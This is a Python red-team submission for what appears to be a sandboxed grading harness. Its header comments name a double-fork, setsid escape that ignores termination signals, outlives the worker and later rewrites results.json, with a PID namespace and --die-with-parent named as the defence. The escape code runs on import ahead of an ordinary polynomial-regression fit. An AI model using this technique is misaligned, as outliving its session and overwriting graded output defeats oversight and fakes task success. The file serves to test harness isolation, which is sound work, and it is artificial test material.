# attack: double fork + setsid, ignore SIGTERM/SIGHUP, outlive the worker and rewrite results later
# defence: a PID namespace and --die-with-parent: everything dies with the worker
# late: 3
"""Red-team submission: the honest twin (tests/redteam/twin.py) plus one exploit."""
import os
import signal
import socket
import sys
import time

import numpy as np


LATE = """
import os, socket, sys, time
for _ in range(30):
    for path in ("@OUT@/results.json", "@PWNED@-exec"):
        try:
            with open(path, "w") as handle:
                handle.write("{}")
        except OSError:
            pass
    try:
        socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=0.2).close()
    except (OSError, ValueError):
        pass
    time.sleep(0.2)
"""


def _daemonise():
    if os.fork() != 0:
        return
    os.setsid()
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    if os.fork() != 0:
        os._exit(0)
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", LATE, "@MARKER@"])
    try:
        with open("/proc/self/comm", "w") as handle:
            handle.write("@MARKER@")
    except OSError:
        pass
    for _ in range(30):
        for path in ("@OUT@/results.json", "@PWNED@"):
            try:
                with open(path, "w") as handle:
                    handle.write("{}")
            except OSError:
                pass
        try:
            socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=0.2).close()
        except (OSError, ValueError):
            pass
        time.sleep(0.2)
    os._exit(0)


_daemonise()


def poly_features(x, degree):
    x = np.asarray(x, dtype=np.float64)
    return np.stack([x ** k for k in range(degree + 1)], axis=1)


def predict(X, w):
    return X @ w


def mse_loss(y_pred, y):
    return float(np.mean((y_pred - y) ** 2))


def mse_grad(X, w, y):
    return X.T @ (X @ w - y) / len(y)


def gd_step(X, w, y, lr):
    return w - lr * mse_grad(X, w, y)


def fit(x, y, degree=3, lr=5e-3, steps=2000, seed=0):
    X = poly_features(x, degree)
    w = np.random.default_rng(seed).normal(size=degree + 1)
    losses = []
    for _ in range(steps):
        losses.append(mse_loss(predict(X, w), y))
        w = gd_step(X, w, y, lr)
    return w, losses
